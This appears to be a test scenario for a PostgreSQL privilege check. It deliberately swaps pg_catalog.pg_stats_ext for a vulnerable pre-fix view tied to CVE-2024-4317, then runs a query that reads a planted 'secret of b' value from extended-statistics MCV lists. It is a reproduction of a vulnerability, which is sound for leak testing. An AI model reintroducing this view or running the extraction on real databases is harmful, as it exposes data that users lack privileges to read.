-- The view of extended statistics as clusters had it before the fix for CVE-2024-4317, never replaced after the upgrade.
-- object: database:{db}
-- object: pg_catalog.pg_stats_ext
-- object: pg_catalog.pg_stats_ext_exprs
-- base: third_fleet
--- setup
RESET ROLE;
CREATE STATISTICS fleet.vehicle_labels (mcv) ON vin, label FROM fleet.vehicles;
INSERT INTO fleet.vehicles SELECT '{B}', 'WDB' || n % 3 + 10, 'secret of b' FROM generate_series(1, 1) n;
ANALYZE fleet.vehicles;
--- leak
RESET ROLE;
SET allow_system_table_mods = on;
CREATE OR REPLACE VIEW pg_catalog.pg_stats_ext WITH (security_barrier) AS
SELECT cn.nspname AS schemaname, c.relname AS tablename, sn.nspname AS statistics_schemaname, s.stxname AS statistics_name,
       pg_get_userbyid(s.stxowner) AS statistics_owner,
       (SELECT array_agg(a.attname ORDER BY a.attnum) FROM unnest(s.stxkeys) k JOIN pg_attribute a ON a.attrelid = s.stxrelid AND a.attnum = k) AS attnames,
       pg_get_statisticsobjdef_expressions(s.oid) AS exprs, s.stxkind AS kinds, sd.stxdinherit AS inherited,
       sd.stxdndistinct AS n_distinct, sd.stxddependencies AS dependencies,
       m.most_common_vals, m.most_common_val_nulls, m.most_common_freqs, m.most_common_base_freqs
FROM pg_statistic_ext s JOIN pg_class c ON c.oid = s.stxrelid JOIN pg_statistic_ext_data sd ON s.oid = sd.stxoid
     LEFT JOIN pg_namespace cn ON cn.oid = c.relnamespace LEFT JOIN pg_namespace sn ON sn.oid = s.stxnamespace
     LEFT JOIN LATERAL (SELECT array_agg(values) AS most_common_vals, array_agg(nulls) AS most_common_val_nulls,
         array_agg(frequency) AS most_common_freqs, array_agg(base_frequency) AS most_common_base_freqs
         FROM pg_mcv_list_items(sd.stxdmcv)) m ON sd.stxdmcv IS NOT NULL
WHERE NOT EXISTS (SELECT 1 FROM unnest(s.stxkeys) k JOIN pg_attribute a ON a.attrelid = s.stxrelid AND a.attnum = k
                  WHERE NOT has_column_privilege(c.oid, a.attnum, 'select'));
--- exploit
SELECT most_common_vals FROM pg_stats_ext WHERE statistics_name = 'vehicle_labels' AND most_common_vals::text LIKE '%secret of b%';
